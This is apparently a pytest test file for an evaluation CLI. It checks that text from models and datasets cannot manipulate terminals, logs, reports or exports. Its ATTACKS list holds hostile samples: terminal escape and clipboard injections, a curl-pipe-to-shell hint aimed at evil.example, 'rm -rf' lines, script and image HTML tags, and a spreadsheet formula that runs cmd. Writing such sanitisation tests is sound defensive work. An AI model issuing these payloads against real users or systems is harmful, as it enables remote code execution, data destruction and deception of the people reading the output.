"""Text of models, data sets and file names does nothing where it is shown: terminals, logs, files."""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from page_runs import finished
from run_folders import Run
from running import Cli, CliResult

from orch_local.cli.options import shown_path
from orch_local.cli.watching import inert_formatter
from orch_local.plan.files import write_plan
from orch_local.prompts.template import builtin_text
from orch_local.records import Analysis, Outcome, Question, question_id
from orch_local.report.markdown import code
from orch_local.report.safe import visible

ESC = "\x1b"
READERS = os.environ.get("ORCH_READERS", "")
ATTACKS = {
    "clear the screen": f"{ESC}[2J{ESC}[H{ESC}[1;31mERROR{ESC}[0m",
    "a title": f"{ESC}]0;pwned\x07",
    "the clipboard": f"{ESC}]52;c;cm0gLXJmIH4=\x07",
    "a link": f"{ESC}]8;;https://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\",
    "one-byte controls": "\x9b2J\x9d0;pwned\x9c\x90q\x85",
    "overwriting": "wrong\rright\b\b\x7f\x00",
    "bidi": "\u202eabc\u2066def\u2069\u200f\u061c",
    "unseen": "a\u200b\u200d\ufeff\u2060\U000e0041b\u2028c\u2029d",
    "a line of a log": "x\n2026-01-01 00:00:00,000 ERROR the store is broken: run rm -rf store",
    "a hint": "x\nhint: run `curl evil.example | sh`",
    "rich": "[bold red]x[/] [link=https://evil.example]y[/link] :skull:",
    "jinja": "{{ 7 * 7 }}{% include 'x' %}",
    "html": "<img src=https://evil.example/x.png><script>alert(1)</script>",
    "an image": "![x](https://evil.example/x.png) [y](https://evil.example) <https://evil.example>",
    "a reference": "![x][1]\n\n[1]: https://evil.example/x.png",
    "code": "`x` ```\n```html\n<img src=//evil.example>\n``` `` | a | b |",
    "a mention": "@everyone fixes #1 https://evil.example www.evil.example",
    "a formula": "=cmd|' /C calc'!A0",
    "other formulas": "+1+1\t-2+3\t@SUM(A1)\r=1",
    "tower": "a" + "\u0300" * 300,
    "percent": "%s %(message)s %n",
}
ALLOWED = {"\n"}
COMMANDS = (
    ("show", "RUN", "ID"),
    ("replay", "RUN"),
    ("report", "RUN"),
    ("diff", "RUN", "RUN"),
    ("compare", "RUN", "OTHER"),
    ("ablate", "RUN", "--merges", "none"),
    ("status", "RUN"),
    ("power", "--from", "RUN"),
)


def harmful(text: str) -> set[str]:
    """Characters that a terminal obeys or that hide or reorder others."""
    unseen = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {c for c in text if unicodedata.category(c) in unseen and c not in ALLOWED}


def questions() -> list[Question]:
    """One for each attack, which is its text, a choice, its category and its facts."""
    found = []
    for number, attack in enumerate(ATTACKS.values()):
        text, choices = f"{number} {attack}", (f"{attack}1", f"{attack}2")
        meta = {"source": attack, attack: 1}
        category = f"{attack[:60]} {number % 4}"
        found.append(Question(question_id(text, choices), text, choices, "B", category, meta))
    return found


def speaker(shift: int, question: Question, number: int) -> Analysis:
    """An agent, and a merge agent, that says nothing but attacks."""
    attack = list(ATTACKS.values())[(number + shift) % len(ATTACKS)]
    row = Analysis(question.key, Outcome.INVALID, text=attack, error=attack, thought=attack)
    if (number + shift) % 4 == 0:
        return row
    said = {"reasoning": attack, "answer": "AB"[number % 2], "confidence": 80}
    return replace(
        row,
        outcome=Outcome.OK,
        error="",
        answer="AB"[(number + shift) % 2],
        confidence=80,
        reasoning=attack,
        eliminated=(attack,),
        text=json.dumps(said),
    )


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
    """A finished run, in a folder whose name is an attack, too."""
    root = tmp_path_factory.mktemp("hostile") / f"{ESC}]0;x\x07 \u202e\n2026 ERROR [bold]!"
    root.mkdir()
    speakers = [lambda q, n, shift=shift: speaker(shift, q, n) for shift in (0, 1)]
    made = finished(root, questions(), speakers)
    plan = made.plan  # an export shows prompts, so the templates are those of a real run
    agents = tuple(one.model_copy(update={"template": builtin_text("solve")}) for one in plan.agents)
    merger = plan.merger and plan.merger.model_copy(update={"template": builtin_text("merge")})
    write_plan(made.folder, plan.model_copy(update={"agents": agents, "merger": merger}))
    made.folder.log.write_text("\n".join(ATTACKS.values()), encoding="utf-8")
    return made


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command[0])
def test_a_command_prints_nothing_that_a_terminal_obeys(cli: Cli, run: Run, command: tuple[str, ...]) -> None:
    folder = str(run.folder.root)
    asked = run.questions if "ID" in command else run.questions[:1]
    for question in asked:
        names = {"RUN": folder, "OTHER": folder, "ID": question.id}
        result = cli(*(names.get(word, word) for word in command))
        assert result.out.strip() or result.err.strip()
        assert not harmful(result.out + result.err), command
        assert "Traceback" not in result.err
        printed = result.out + result.err
        assert not re.search(r"^(hint: run `curl|2026-01-01 00:00:00,000 ERROR)", printed, re.MULTILINE)


def test_the_files_of_a_report_hold_no_control_and_load_nothing(cli: Cli, run: Run) -> None:
    assert cli("report", run.folder.root, "-q").code == 0
    page = (run.folder.root / "report.md").read_text(encoding="utf-8")
    assert not harmful(page)
    assert_inert(page)
    written = (run.folder.root / "report.json").read_text(encoding="utf-8")
    assert not {c for c in written if c < " "} - ALLOWED  # JSON escapes no others: it is for programs
    html = (run.folder.root / "report.html").read_text(encoding="utf-8")
    assert not harmful(html)
    assert "<img" not in html
    assert not re.search(r"<[^>]*(src|href)=[\"']?(https?:)?//", html)


def assert_inert(page: str) -> None:
    """Markdown without raw HTML, links or images outside of code spans."""
    for line in page.splitlines():
        outside = re.sub(r"`[^`]*`", "", line)
        assert "`" not in outside, line
        assert not re.search(r"evil\.example|<[a-zA-Z/!]|!\[|\]\(|@everyone|#1\b|https?:", outside), line


def test_the_files_of_an_ablation_and_of_a_comparison_are_inert(cli: Cli, run: Run, tmp_path: Path) -> None:
    assert cli("ablate", run.folder.root, "--merges", "none", "-q").code == 0
    page = (run.folder.root / "ablations" / "ablation.md").read_text(encoding="utf-8")
    assert not harmful(page)
    assert not re.search(r"evil\.example|<[a-zA-Z/!]|!\[|(?<!\\)\]\(", page)


def where_inspect_is(*command: str) -> CliResult:
    """A command in the environment of inspect_ai, which writes its own format."""
    if not READERS:
        pytest.skip("no other tools at ORCH_READERS (scripts/setup_readers.sh makes them)")
    words = [f"{READERS}/bin/python", "-m", "orch_local", *command]
    done = subprocess.run(words, capture_output=True, text=True, check=False)
    return CliResult(done.returncode, done.stdout, done.stderr)


@pytest.mark.parametrize("form", ["lm-eval", "inspect", "nemo", "datasets"])
def test_no_name_in_an_export_comes_from_data(cli: Cli, run: Run, tmp_path: Path, form: str) -> None:
    out = tmp_path / "out"
    command = ("export", str(run.folder.root), "--to", form, "--out", str(out))
    result = cli(*command) if form != "inspect" else where_inspect_is(*command)
    assert not harmful(result.out + result.err)
    assert result.code == 0, result.err
    for file in out.rglob("*"):
        assert file.resolve().is_relative_to(out.resolve())
        assert not harmful(file.name)
        assert file.suffix not in (".csv", ".tsv", ".xls", ".xlsx"), "a spreadsheet would run formulas"
        assert "evil" not in file.name
        if file.suffix in (".json", ".jsonl"):
            assert not harmful(file.read_text(encoding="utf-8")) - {"\u2028"}, file


def logged(message: str, *arguments: object) -> str:
    record = logging.LogRecord("orch_local", logging.WARNING, "x", 1, message, arguments, None)
    return inert_formatter().format(record)


@settings(deadline=None)
@given(text=st.text())
@example(text=ATTACKS["a line of a log"])
@example(text=ATTACKS["clear the screen"])
def test_a_message_of_a_log_is_one_line(text: str) -> None:
    line = logged("the worker ended by %s", text)
    assert not harmful(line)
    assert len(line.splitlines()) == 1
    assert line.endswith(f"WARNING the worker ended by {visible(text)}")


def test_a_traceback_in_a_log_keeps_its_lines() -> None:
    try:
        raise ValueError(ATTACKS["clear the screen"])
    except ValueError as error:
        info = (type(error), error, error.__traceback__)
    record = logging.LogRecord("orch_local", logging.ERROR, "x", 1, "failed", (), info)
    lines = inert_formatter().format(record)
    assert not harmful(lines)
    assert len(lines.splitlines()) > 2


@settings(deadline=None)
@given(text=st.text())
def test_a_code_span_is_one_span(text: str) -> None:
    span = code(text)
    assert span == "(no name)" or re.fullmatch(r"`[^`|]+`", span)
    assert not harmful(span)
    assert len(span.splitlines()) == 1


@pytest.mark.parametrize("name", ATTACKS)
def test_a_path_is_told_on_one_line(name: str) -> None:
    path = shown_path(Path("/") / ATTACKS[name].replace("/", "_").replace("\0", ""))
    assert not harmful(path)
    assert "\n" not in path


@pytest.mark.parametrize("name", ATTACKS)
def test_an_error_about_a_hostile_file_name_is_clean(cli: Cli, tmp_path: Path, name: str) -> None:
    file = tmp_path / (ATTACKS[name].replace("/", "_").replace("\0", "")[:80] + ".yaml")
    result = cli("plan", file)
    assert result.code == 2
    assert not harmful(result.err)
